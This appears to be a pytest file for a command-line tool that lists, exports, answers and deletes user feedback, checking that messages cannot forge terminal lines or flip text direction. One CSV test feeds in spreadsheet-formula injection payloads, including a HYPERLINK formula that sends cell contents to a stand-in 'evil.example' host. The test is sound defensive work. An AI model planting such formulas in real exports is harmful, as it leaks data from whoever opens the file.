"""`tiles feedback`, for the person at the terminal and for a script."""

import csv
import io
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

from journeys import MoveClock
from peers import text_of
from support import Person, Service, any_database, invoke

from backend import clock
from backend.accounts.feedback import MESSAGE_LENGTH


def send(service: Service, message: str, headers: dict[str, str] | None = None) -> dict[str, Any]:
    response = service.http.post("/v1/feedback", json={"message": message}, headers=headers)
    assert response.status_code == 201
    received: dict[str, Any] = response.json
    return received | {"received_at": f"{received['received_at'].partition('.')[0].rstrip('Z')}Z"}


def test_feedback_is_listed_the_newest_first_and_names_nobody(
    service: Service, ada: Person, move_clock: MoveClock
) -> None:
    first = send(service, "More tiles,\n\nplease.", ada.headers)
    move_clock(timedelta(minutes=1))
    second = send(service, "Fewer.")
    done = invoke(service, "feedback", "list", "--json")
    assert json.loads(done.stdout) == [
        second | {"done_at": None, "signed_in": False, "message": "Fewer."},
        first | {"done_at": None, "signed_in": True, "message": "More tiles,\n\nplease."},
    ]
    assert invoke(service, "feedback", "list").stdout.splitlines() == [
        f"{second['id']}  {second['received_at']}  anonymous  open  Fewer.",
        f"{first['id']}  {first['received_at']}  signed in  open  More tiles, please.",
    ]
    assert ada.email not in done.stdout


@any_database
def test_a_message_takes_one_line_of_the_list_and_cannot_write_over_it(service: Service) -> None:
    send(service, "word " * 40 + "end")
    send(service, "\N{RIGHT-TO-LEFT OVERRIDE}drawkcab\N{LINE SEPARATOR}and on\tand on")
    backwards, long = invoke(service, "feedback", "list").stdout.splitlines()
    assert long.endswith(" word word…")
    assert len(long.partition("anonymous  open  ")[2]) == 80
    assert backwards.endswith("anonymous  open  drawkcab and on and on")


@any_database
def test_a_message_forges_no_line_and_does_not_turn_the_text(service: Service) -> None:
    sent = send(service, "hi\ndone at      2026-12-01T00:00:00Z \N{RIGHT-TO-LEFT OVERRIDE}evil")
    shown = invoke(service, "feedback", "show", sent["id"]).stdout
    assert "\\u202eevil" in shown
    assert [line for line in shown.splitlines() if line.startswith("done at")] == ["done at      none"]


@any_database
def test_the_export_contains_all_or_the_filtered_messages_in_full(service: Service, tmp_path: Path) -> None:
    messages = ["word " * 700 + "end", "\N{RIGHT-TO-LEFT OVERRIDE}drawkcab", "Fewer."]
    *_, done = (send(service, message) for message in messages)
    file, today = tmp_path / "feedback", str(clock.now().date())
    assert invoke(service, "feedback", "export", "--output", str(file)).output == ""
    exported = json.loads(file.read_text("utf-8"))
    assert {entry["message"] for entry in exported["feedback"]} == set(messages)
    assert exported == json.loads(invoke(service, "feedback", "export").stdout)
    assert exported["feedback"] == json.loads(invoke(service, "feedback", "list", "--json").stdout)
    invoke(service, "feedback", "done", done["id"])
    open_messages = json.loads(invoke(service, "feedback", "export", "--state", "open").stdout)["feedback"]
    assert {entry["message"] for entry in open_messages} == set(messages[:2])
    options = ("--csv", "--state", "done", "--from", today, "--to", today)
    assert invoke(service, "feedback", "export", *options, "--output", str(file)).output == ""
    assert [row["id"] for row in csv.DictReader(io.StringIO(file.read_text("utf-8-sig")))] == [done["id"]]
    assert "no such message" in invoke(service, "feedback", "list", "--to", "2020-01-31").stderr
    assert "write a day such as" in invoke(service, "feedback", "list", "--to", "31.1.2027", status=2).stderr


@any_database
def test_no_message_is_a_formula_in_the_csv_export(service: Service, tmp_path: Path) -> None:
    cells = ['=HYPERLINK("https://evil.example/?x="&A1,"See")', "+1", "-1", "@SUM(A1)", "\N{FULLWIDTH EQUALS SIGN}1+1"]
    harmless = 'Harmless "quotes", a comma,\nand 1=1'
    for message in (*cells, harmless):
        send(service, message)
    invoke(service, "feedback", "export", "--csv", "--output", str(tmp_path / "feedback.csv"))
    text = (tmp_path / "feedback.csv").read_bytes().decode()
    assert text.startswith('\ufeff"id","received_at","done_at","signed_in","message"\r\n')
    rows = csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    assert {row["message"] for row in rows} == {harmless, *(f"'{cell}" for cell in cells)}


@any_database
def test_without_feedback_the_output_says_so_and_json_is_an_empty_list(service: Service) -> None:
    empty = invoke(service, "feedback", "list")
    assert (empty.stdout, empty.stderr) == ("", "Nobody has written yet.\n")
    assert json.loads(invoke(service, "feedback", "list", "--json").stdout) == []
    assert json.loads(invoke(service, "feedback", "export").stdout) == {"feedback": []}


def test_the_commands_reply_mark_and_delete(service: Service, ada: Person, tmp_path: Path) -> None:
    feedback_id = str(send(service, "More tiles.", ada.headers)["id"])
    for text in (b"", b"a" * (MESSAGE_LENGTH + 1), b"\xff\xfe", b"bell \x07"):
        refused = invoke(service, "feedback", "reply", feedback_id, "-", "--yes", typed=text, status=1)
        assert refused.stderr.startswith("Error: ")
    assert service.rows("replies") == []
    file = tmp_path / "reply.txt"
    file.write_text("\ufeffThank you.\n\nWe add more.\n", "utf-8")
    replied = invoke(service, "feedback", "reply", feedback_id, str(file), typed="y\n")
    assert "Email this reply to the writer (0 were sent before)? [y/N]" in replied.stderr
    assert "\n\nThank you.\n\nWe add more.\n\n" in text_of(service.mail())
    invoke(service, "feedback", "reply", feedback_id, str(file), typed="n\n", status=1)
    invoke(service, "feedback", "done", feedback_id)
    assert " done  More tiles." in invoke(service, "feedback", "list").stdout
    assert "Thank you." in invoke(service, "feedback", "show", feedback_id).stdout
    invoke(service, "feedback", "reopen", feedback_id)
    assert "for good" in invoke(service, "feedback", "delete", feedback_id, status=1).stderr
    assert len(service.rows("feedback")) == 1
    invoke(service, "feedback", "delete", feedback_id, "--yes")
    assert service.rows("feedback") == []
    assert "no message with this id" in invoke(service, "feedback", "show", feedback_id, status=1).stderr
